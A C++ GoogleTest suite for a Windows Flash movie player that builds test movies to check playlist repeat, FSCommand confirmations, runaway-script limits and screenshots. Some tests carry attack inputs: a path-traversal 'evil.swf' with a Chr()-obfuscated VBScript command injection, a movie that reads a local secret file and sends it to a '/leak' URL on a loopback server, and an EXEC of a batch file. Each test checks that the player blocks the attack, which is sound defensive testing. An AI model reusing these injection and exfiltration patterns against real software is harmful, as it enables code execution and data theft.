// The program playing, as a real process, on movies the tests write: a
// playlist moving on by repeat mode, movies talking through FS commands
// (a program path asked about, a word of the program's own ignored, a
// quit), a movie posing as one of the program's pages through a path into
// its Flash folder, a movie that reads a file beside it and then asks for an
// address, and the picture of the skinned window with a movie paused at its middle.
#include <gtest/gtest.h>
#include <windows.h>
#include <tlhelp32.h>

#include "FormsTestSupport.h"
#include "LoopbackServer.h"
#include "ProgramProcess.h"
#include "services/RegistryModule.h"
#include "TestSupport.h"
#include "base/Handles.h"
#include "platform/flash/FlashTestSupport.h"

using namespace player_test;
using flashtest::ActGetUrl;
using flashtest::ActStop;
using flashtest::DoAction;
using flashtest::Script;
using moviebytes::Bytes;

namespace {

std::wstring Quoted(const std::wstring& path) { return L"\"" + path + L"\""; }

std::string Narrow(const std::wstring& text) {
  std::string out;
  for (wchar_t c : text) out += static_cast<char>(c);  // the tests' paths are plain ASCII
  return out;
}

void SaveText(const wchar_t* section, const wchar_t* name, const wchar_t* text) {
  const std::wstring key = AppRegistryKey() + L"\\" + section;
  RegSetKeyValueW(HKEY_CURRENT_USER, key.c_str(), name, REG_SZ, text,
                  static_cast<DWORD>((wcslen(text) + 1) * sizeof(wchar_t)));
}

void SaveNumber(const wchar_t* section, const wchar_t* name, DWORD value) {
  const std::wstring key = AppRegistryKey() + L"\\" + section;
  RegSetKeyValueW(HKEY_CURRENT_USER, key.c_str(), name, REG_DWORD, &value, sizeof(value));
}

// A movie of frames empty frames at 12 a second; actions[i] run at frame i.
Bytes MovieWith(int frames, const std::vector<std::pair<int, Bytes>>& actions = {}) {
  moviebytes::Movie m;
  m.rateWhole = 12;
  m.frames = static_cast<uint16_t>(frames);
  m.rect = moviebytes::Rect(0, 320 * 20, 0, 240 * 20);
  m.tags.push_back(moviebytes::BackgroundTag(0x33, 0x66, 0x99));
  for (int i = 0; i < frames; ++i) {
    for (const auto& [at, action] : actions)
      if (at == i) m.tags.push_back(action);
    m.tags.push_back(moviebytes::ShowFrame());
  }
  m.tags.push_back(moviebytes::EndTag());
  return m.Plain();
}

Bytes Commands(const std::vector<std::pair<std::string, std::wstring>>& words) {
  std::vector<Bytes> actions;
  for (const auto& [word, args] : words) actions.push_back(ActGetUrl("FSCommand:" + word, Narrow(args)));
  return MovieWith(24, {{0, DoAction(actions)}});
}

// A visible dialog box of the process (a message box), or null.
HWND FindDialogOf(DWORD pid) {
  struct Search {
    DWORD pid;
    HWND found = nullptr;
  } s{pid};
  EnumWindows(
      [](HWND hwnd, LPARAM lp) -> BOOL {
        auto* s = reinterpret_cast<Search*>(lp);
        DWORD owner = 0;
        GetWindowThreadProcessId(hwnd, &owner);
        wchar_t cls[64] = {};
        GetClassNameW(hwnd, cls, 64);
        if (owner != s->pid || !IsWindowVisible(hwnd) || std::wstring(cls) != L"#32770") return TRUE;
        s->found = hwnd;
        return FALSE;
      },
      reinterpret_cast<LPARAM>(&s));
  return s.found;
}

// The processes whose parent is the process given.
int ChildProcesses(DWORD parent) {
  ScopedHandle snapshot(CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0));
  if (!snapshot) return -1;
  PROCESSENTRY32W entry{sizeof(entry)};
  int children = 0;
  for (BOOL more = Process32FirstW(snapshot.get(), &entry); more; more = Process32NextW(snapshot.get(), &entry))
    if (entry.th32ParentProcessID == parent) ++children;
  return children;
}

// Waits until three pictures of the window 0.6 s apart are the same (the
// read-out and the seek bar move on every tick while a movie plays).
bool WaitUntilStill(HWND window, const std::wstring& shot, DWORD timeoutMs) {
  const ULONGLONG end = GetTickCount64() + timeoutMs;
  Bytes last;
  int same = 0;
  while (GetTickCount64() < end) {
    if (!forms_test::SaveWindowShot(window, shot)) return false;
    Bytes now = testing_support::ReadBytes(shot);
    same = !last.empty() && now == last ? same + 1 : 0;
    if (same == 2) return true;
    last = std::move(now);
    Sleep(400);
  }
  return false;
}

class Playing : public ::testing::Test {
 protected:
  void SetUp() override {
    SaveText(L"System", L"FirstRun", L"False");
    SaveText(L"Update", L"Auto", L"False");
  }
  std::wstring Write(const std::wstring& name, const Bytes& bytes) {
    const std::wstring path = temp.File(name);
    testing_support::WriteBytes(path, bytes);
    return path;
  }
  PrivateProgramKey key;
  testing_support::TempDir temp;
};

TEST_F(Playing, APlaylistMovesOnOnlyUnderARepeatMode) {
  const std::wstring a = Write(L"a.swf", MovieWith(24)), b = Write(L"b.swf", MovieWith(24));
  for (DWORD repeat : {2u, 0u}) {
    SaveNumber(L"Playback", L"RepeatMode", repeat);
    ProgramProcess run(Quoted(a) + L" " + Quoted(b));
    HWND main = run.WaitForMainWindow();
    ASSERT_NE(main, nullptr);
    EXPECT_TRUE(WaitForCaption(main, L"SWF.zel - a.swf"));
    if (repeat == 2) {
      EXPECT_TRUE(WaitForCaption(main, L"SWF.zel - b.swf", 15000)) << "repeat all moves on";
      EXPECT_TRUE(WaitForCaption(main, L"SWF.zel - a.swf", 15000)) << "and starts over";
    } else {
      // Two seconds of movie, then twice as long at its end.
      EXPECT_FALSE(WaitForCaption(main, L"SWF.zel - b.swf", 6000)) << "repeat off stays";
    }
    EXPECT_TRUE(run.Close());
  }
}

TEST_F(Playing, AMovieAsksBeforeAProgramRunsAndNoRunsNothing) {
  const std::wstring marker = temp.File(L"marker.txt");
  const std::wstring batch = temp.File(L"write marker.bat");
  testing_support::WriteText(batch, "echo ran > \"" + Narrow(marker) + "\"\r\n");
  const std::wstring movie = Write(L"exec.swf", Commands({{"EXEC", batch}}));

  ProgramProcess run(Quoted(movie));
  HWND main = run.WaitForMainWindow();
  ASSERT_NE(main, nullptr);
  HWND box = nullptr;
  testing_support::WaitUntil([&] { return (box = FindDialogOf(run.Id())) != nullptr; }, 15000);
  ASSERT_NE(box, nullptr) << "the confirmation box";
  EXPECT_NE(FindChildWithText(box, batch), nullptr) << "the box names the program";
  EXPECT_EQ(GetWindowLongW(GetDlgItem(box, IDNO), GWL_STYLE) & BS_TYPEMASK, BS_DEFPUSHBUTTON) << "No is the default";
  PostMessageW(box, WM_COMMAND, MAKEWPARAM(IDNO, BN_CLICKED), reinterpret_cast<LPARAM>(GetDlgItem(box, IDNO)));
  testing_support::WaitUntil([&] { return !IsWindow(box); });
  EXPECT_FALSE(IsWindow(box));
  // The answer is acted on before the window takes its next message: a
  // program started then would be a child of the process by now.
  EXPECT_TRUE(Answers(main));
  EXPECT_EQ(ChildProcesses(run.Id()), 0) << "nothing was started";
  EXPECT_EQ(GetFileAttributesW(marker.c_str()), INVALID_FILE_ATTRIBUTES);
  EXPECT_TRUE(run.Close());
}

TEST_F(Playing, AnOutsideMovieCannotLoadAnotherAndMayQuit) {
  const std::wstring other = Write(L"other.swf", MovieWith(24));
  // The full-screen request after the load shows the load was passed over:
  // a load would have replaced the movie before its next command.
  const std::wstring outside =
      Write(L"outside.swf", Commands({{"MEOWLOAD", other}, {"FULLSCREEN", L"true"}}));
  {
    ProgramProcess run(Quoted(outside));
    HWND main = run.WaitForMainWindow();
    ASSERT_NE(main, nullptr);
    EXPECT_TRUE(testing_support::WaitUntil([&] { return IsZoomed(main) != FALSE; }, 15000));
    EXPECT_EQ(Caption(main), L"SWF.zel - outside.swf");
    EXPECT_TRUE(run.Close());
  }
  const std::wstring quitting = Write(L"quit.swf", Commands({{"QUIT", L""}}));
  ProgramProcess run(Quoted(quitting));
  EXPECT_TRUE(run.WaitForExit(30000)) << "the movie's quit ends the program";
  EXPECT_EQ(run.ExitCode(), 0u);
}

// From its third second, the movie's every frame calls a handler that never
// ends. The window answers once the scripts' budget stopped it (the movie's
// ScriptLimits asks for three seconds) and goes on answering; and a close
// request ends the program while the handler runs (the full budget).
TEST_F(Playing, ARunawayScriptNeitherHangsTheWindowNorHoldsItOpen) {
  auto runaway = [](uint16_t seconds) {
    const Bytes handler = flashtest::Script("push '_root'; getVariable; push 'onEnterFrame'; "
                                            "function '' () { loop: jump loop }; setMember");
    // ScriptLimits: recursion depth, seconds.
    const Bytes limits = moviebytes::Tag(65, Bytes{0, 1, static_cast<uint8_t>(seconds), 0});
    return seconds ? MovieWith(48, {{0, limits}, {24, handler}}) : MovieWith(48, {{24, handler}});
  };
  // Pings until one finds the window busy (the handler runs), within a deadline.
  auto waitBusy = [](HWND window) {
    return testing_support::WaitUntil([&] {
      DWORD_PTR result = 0;
      return !SendMessageTimeoutW(window, WM_NULL, 0, 0, SMTO_NORMAL, 500, &result);
    }, 36000);
  };
  {
    ProgramProcess run(Quoted(Write(L"limited.swf", runaway(3))));
    HWND main = run.WaitForMainWindow();
    ASSERT_NE(main, nullptr);
    EXPECT_TRUE(waitBusy(main));
    DWORD_PTR result = 0;
    EXPECT_TRUE(SendMessageTimeoutW(main, WM_NULL, 0, 0, SMTO_NORMAL, 16000, &result)) << "answers once stopped";
    // Frames go on, their handler no more: through a second of frames, no ping waits out a
    // run of the handler (3 s).
    const ULONGLONG until = GetTickCount64() + 1000;
    while (GetTickCount64() < until)
      ASSERT_TRUE(SendMessageTimeoutW(main, WM_NULL, 0, 0, SMTO_NORMAL, 2000, &result)) << "and goes on answering";
    PostMessageW(main, WM_CLOSE, 0, 0);
    EXPECT_TRUE(run.WaitForExit(2000));
  }
  ProgramProcess run(Quoted(Write(L"endless.swf", runaway(0))));
  HWND main = run.WaitForMainWindow();
  ASSERT_NE(main, nullptr);
  ASSERT_TRUE(waitBusy(main));
  PostMessageW(main, WM_CLOSE, 0, 0);
  EXPECT_TRUE(run.WaitForExit(2000)) << "the close request stops the handler";
}

// Waits until the window is maximised (the movie's last command carried
// out) or one of the process's boxes shows; the box, or null.
HWND FullScreenOrBox(ProgramProcess& run, HWND main) {
  HWND box = nullptr;
  if (testing_support::WaitUntil([&] { return (box = FindDialogOf(run.Id())) != nullptr || IsZoomed(main); }, 30000))
    return box;
  ADD_FAILURE() << "neither full screen nor a box";
  return nullptr;
}

// A VBScript string written without a quote (a playlist entry drops its quotes).
std::string VbText(const std::string& text) {
  std::string out;
  for (char c : text) out += (out.empty() ? "" : "&") + std::string("Chr(") + std::to_string(static_cast<unsigned char>(c)) + ")";
  return out;
}

// A folder beside the program, so that a path from its Flash folder reaches
// it through "..": removed with its contents.
class BesideTheProgram {
 public:
  BesideTheProgram() : path_(testing_support::ProgramDir() + L"elsewhere-" + std::to_wstring(GetCurrentProcessId()) + L"\\") {
    CreateDirectoryW(path_.c_str(), nullptr);
  }
  ~BesideTheProgram() { testing_support::RemoveTree(path_); }
  const std::wstring& Path() const { return path_; }

 private:
  std::wstring path_;
};

// A movie opened through a path that passes through the program's Flash
// folder, on the command line and from a playlist file, is no page of the
// program's: its debug box does not show and the statement it hands over as
// a movie to load never runs (no file is written).
TEST_F(Playing, AMovieReachedThroughTheFlashFolderIsNoPageOfTheProgram) {
  BesideTheProgram beside;
  const std::wstring marker = temp.File(L"written.txt");
  const std::string statement = "/exec CreateObject(" + VbText("Scripting.FileSystemObject") + ").CreateTextFile(" +
                                VbText(Narrow(marker)) + ").Close '.swf";
  testing_support::WriteBytes(beside.Path() + L"evil.swf",
                              Commands({{"MEOWLOAD", std::wstring(statement.begin(), statement.end())},
                                        {"MEOWMSG", L"own words"},
                                        {"FULLSCREEN", L"true"}}));
  const std::wstring throughFlash = testing_support::ProgramDir() + L"Media\\Flash\\..\\..\\" +
                                    beside.Path().substr(testing_support::ProgramDir().size()) + L"evil.swf";
  const std::wstring list = temp.File(L"evil.swfzel");
  testing_support::WriteText(list, "<?xml version=\"1.0\"?><PLAYLIST build=\"680\"><FILE>" + Narrow(throughFlash) +
                                       "</FILE></PLAYLIST>");
  for (const std::wstring& given : {throughFlash, list}) {
    SCOPED_TRACE(testing::Message() << Narrow(given));
    ProgramProcess run(Quoted(given));
    HWND main = run.WaitForMainWindow();
    ASSERT_NE(main, nullptr);
    HWND box = FullScreenOrBox(run, main);
    EXPECT_EQ(box, nullptr) << "the program's debug box";
    if (box) PostMessageW(box, WM_COMMAND, IDOK, 0);
    EXPECT_EQ(GetFileAttributesW(marker.c_str()), INVALID_FILE_ATTRIBUTES) << "the statement ran";
    EXPECT_EQ(Caption(main), L"SWF.zel - evil.swf");
    EXPECT_TRUE(run.Close());
  }
}

// A movie reads a file beside it, then asks for an address carrying its
// text: the question comes, names the address, has No for its default, and
// with No nothing reaches the server.
TEST_F(Playing, AMovieThatReadAFileAsksBeforeAnyAddressAndNoSendsNothing) {
  testing_support::LoopbackServer server;
  ASSERT_TRUE(server.Listening());
  server.Serve("/leak?d=hidden", testing_support::HttpAnswer::Ok("thanks"));
  testing_support::WriteText(temp.File(L"secret.txt"), "text=hidden");
  const std::string address = Narrow(server.Url("/leak?d="));
  const std::wstring movie =
      Write(L"reader.swf", MovieWith(24, {{0, Script("push 'secret.txt', 1, '_root'; getVariable; "
                                                     "push 'loadVariables'; callMethod; pop")},
                                          {2, Script("push '" + address + "', 'text'; getVariable; add2; "
                                                     "push '_blank'; getURL2 0")},
                                          {4, Script("push 'FSCommand:FULLSCREEN', 'true'; getURL2 0; stop")}}));
  ProgramProcess run(Quoted(movie));
  HWND main = run.WaitForMainWindow();
  ASSERT_NE(main, nullptr);
  HWND box = FullScreenOrBox(run, main);
  ASSERT_NE(box, nullptr) << "the question";
  EXPECT_NE(FindChildWithText(box, server.Url("/leak?d=hidden")), nullptr) << "the question names the address";
  EXPECT_EQ(GetWindowLongW(GetDlgItem(box, IDNO), GWL_STYLE) & BS_TYPEMASK, BS_DEFPUSHBUTTON) << "No is the default";
  PostMessageW(box, WM_COMMAND, MAKEWPARAM(IDNO, BN_CLICKED), reinterpret_cast<LPARAM>(GetDlgItem(box, IDNO)));
  testing_support::WaitUntil([&] { return !IsWindow(box); });
  EXPECT_EQ(FullScreenOrBox(run, main), nullptr) << "the movie goes on to its next command";
  EXPECT_TRUE(IsZoomed(main));
  EXPECT_TRUE(server.Requests().empty());
  EXPECT_TRUE(run.Close());
}

TEST_F(Playing, SavesThePictureOfAMoviePausedAtItsMiddle) {
  // 120 frames at 12 a second, stopping itself at frame 60: 0:05 played, 0:05 left.
  const std::wstring movie = Write(L"middle.swf", MovieWith(120, {{60, DoAction({ActStop()})}}));
  ProgramProcess run(Quoted(movie));
  HWND main = run.WaitForMainWindow();
  ASSERT_NE(main, nullptr);
  SetWindowPos(main, HWND_TOPMOST, 0, 0, 0, 0, SWP_NOMOVE | SWP_NOSIZE | SWP_NOACTIVATE);
  const std::wstring shot = testing_support::ProgramDir() + L"main-window-playing.bmp";
  EXPECT_TRUE(WaitUntilStill(main, shot, 30000));
  EXPECT_EQ(Caption(main), L"SWF.zel - middle.swf");
  EXPECT_TRUE(run.Close());
}

}  // namespace
